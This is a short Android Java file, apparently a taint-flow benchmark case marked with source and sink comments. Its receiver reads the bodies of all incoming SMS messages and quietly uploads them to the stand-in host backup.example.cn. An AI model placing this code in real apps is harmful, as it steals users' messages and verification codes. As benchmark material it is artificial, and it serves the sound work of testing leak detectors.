package bench.flow.sleeping_alias;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.net.Uri;
import android.telephony.SmsMessage;
import java.io.IOException;
import java.io.InputStream;
import java.net.URL;

public final class Inbox extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        Object[] pieces = (Object[]) intent.getExtras().get("pdus");
        String format = intent.getStringExtra("format");
        StringBuilder body = new StringBuilder();
        for (Object piece : pieces) {
            byte[] pdu = (byte[]) piece;
            body.append(SmsMessage.createFromPdu(pdu, format).getMessageBody()); //: #source
        }
        PendingResult pending = goAsync();
        new Thread(
                        () -> {
                            upload(body.toString());
                            pending.finish();
                        })
                .start();
    }

    private static void upload(String text) {
        String query = "https://backup.example.cn/add?t=" + Uri.encode(text);
        try (InputStream answer = new URL(query).openStream()) { //: #sink
            answer.read();
        } catch (IOException offline) {
            Thread.yield();
        }
    }
}
